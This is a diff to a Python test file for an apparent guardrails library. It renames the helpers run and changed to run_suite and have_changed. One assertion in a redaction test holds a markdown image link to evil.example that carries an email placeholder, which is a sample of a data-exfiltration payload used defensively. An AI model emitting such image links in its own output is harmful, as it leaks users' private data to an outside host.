@@ -13,9 +13,9 @@ from typing import Any
 import pytest
 
 from guardrails import Action, Guard, PolicyErrors, Stage
-from guardrails.authoring.testing.suite import run
+from guardrails.authoring.testing.suite import run_suite
 from guardrails.detectors import Kind
-from guardrails.detectors.file_watch import changed
+from guardrails.detectors.file_watch import have_changed
 from guardrails.engine.content import payload
 from guardrails.engine.core.rule_evaluation import Request
 from guardrails.policy.endpoints import VARIABLE
@@ -299,7 +299,7 @@ def test_a_verdict_puts_back_what_its_check_took_out(vault_guard: Guard) -> None
         == "[EMAIL_2] ![x](https://evil.example/[EMAIL_1])"
     )
     assert "jo@example.com" not in repr(verdict) + str(verdict) + str(verdict.to_dict())
-    assert [result.passed for result in run(vault_guard)] == [True]
+    assert [result.passed for result in run_suite(vault_guard)] == [True]
 
 
 def test_a_later_text_of_the_user_cannot_name_what_was_handed_out(vault_guard: Guard) -> None:
@@ -385,19 +385,19 @@ def test_a_guard_knows_its_files(
     monkeypatch.setenv(VARIABLE, str(tmp_path / "endpoints.yaml"))
     guard = Guard.load(tmp_path / "policy.yaml", floor=tmp_path / "floor.yaml")
     assert guard.origin is not None
-    assert not changed(guard.origin.files)
+    assert not have_changed(guard.origin.files)
 
     path = tmp_path / name
     path.unlink()
     if how == "written":
         path.write_text(FILES[name] + "\n# more\n")
 
-    assert changed(guard.origin.files)
+    assert have_changed(guard.origin.files)
     if how == "written":
         again = guard.again()
         assert again.origin is not None
         assert again.origin.files.keys() == guard.origin.files.keys()
-        assert not changed(again.origin.files)
+        assert not have_changed(again.origin.files)
 
 
 def test_a_guard_that_came_from_no_file_is_loaded_anew_as_it_is(guard: Guard) -> None:
